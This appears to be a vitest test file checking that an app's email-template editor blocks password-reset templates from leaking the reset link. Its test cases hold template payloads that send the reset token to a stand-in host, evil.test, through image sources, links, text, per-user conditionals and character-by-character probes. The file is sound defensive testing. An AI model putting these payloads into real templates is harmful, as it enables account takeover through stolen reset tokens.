import { beforeAll, expect, test } from 'vitest';
import { buildUser } from '../../../src/features/users/users.fixtures.ts';
import type { Api } from '../../support/api.ts';
import { startApp, type TestApp } from '../../support/app.ts';

/** Who may write templates gets no link that opens somebody's account [AUTHN-03]. */
let app: TestApp;
let editor: Api;
let params: { id: string };

beforeAll(async () => {
  app = await startApp({ config: { rateLimits: false } });
  editor = await app.as.holding('email-templates.view', 'email-templates.edit');
  const { items } = (await editor.emailTemplates.list({ query: { pageSize: 100 } })).data;
  params = { id: items.find(({ systemKey }) => systemKey === 'password-reset')?.id ?? '' };
});

const good = '<p><a href="{{ link }}">Go on</a></p>';

test.each([
  [{ htmlContent: `${good}<img src="https://evil.test/?{{ link }}">` }, 'htmlContent'],
  [{ htmlContent: '<p><a href="https://evil.test/?{{ link }}">Go on</a></p>' }, 'htmlContent'],
  [{ htmlContent: `${good}<p>https://evil.test/?{{ link }}</p>` }, 'htmlContent'],
  [{ htmlContent: good, textContent: 'https://evil.test/?{{ link }}' }, 'htmlContent'],
])('a template that shows the link elsewhere is rejected: %j', async (body, field) => {
  expect(await editor.emailTemplates.update({ params, body })).toReject(400, 'VALIDATION_ERROR', { fields: [field] });
});

test.each([
  ['for one person alone', '{% if name == "Grace" %}<img src="https://evil.test/?{{ link }}">{% endif %}'],
  ['in parts', '{% if name == "Grace" %}<img src="https://evil.test/?{{ link | truncate: 99, "" }}">{% endif %}'],
  ['letter by letter', '{% if link contains "a" %}<img src="https://evil.test/a">{% endif %}'],
])('a template that would send it %s sends the original, or nothing of the link', async (_, part) => {
  const { email } = await buildUser(app, { displayName: 'Grace' });
  const changed = await editor.emailTemplates.update({
    params,
    body: { htmlContent: `${good}${part}`, textContent: '' },
  });
  expect(changed.status).toBe(200);
  app.mails.length = 0;
  for (let n = 0; n < 4; n += 1) await app.as.anonymous.recovery.requestReset({ body: { email } });
  await app.runJobs();
  expect(app.mails.length).toBeGreaterThan(0);
  for (const { html, text } of app.mails) {
    const [, token = ''] = /token=([\w-]{20,})/.exec(text) ?? [];
    expect(token).not.toBe('');
    expect(html).toContain(`token=${token}`);
    // Whatever else is loaded says the same for every token.
    for (const [, address = ''] of html.matchAll(/src="([^"]*)"/g)) expect(address).not.toContain(token.slice(0, 4));
  }
});
